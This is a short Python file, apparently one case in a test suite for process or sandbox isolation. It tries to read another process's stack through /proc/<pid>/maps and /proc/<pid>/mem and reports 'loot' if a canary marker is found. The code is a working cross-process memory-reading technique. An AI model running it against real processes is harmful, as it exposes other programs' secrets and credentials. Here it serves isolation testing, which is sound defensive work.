"""Reads the memory of another process of the same user.

no effect
gets through at: process
"""

from host import HOST, loot
from right import serve

try:
    for line in open(f"/proc/{HOST['victim']}/maps"):
        if "[stack]" in line:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            with open(f"/proc/{HOST['victim']}/mem", "rb") as memory:
                memory.seek(start)
                data = memory.read(end - start)
            if b"canary" in data:
                loot("the stack of the victim")
except OSError:
    pass
serve()
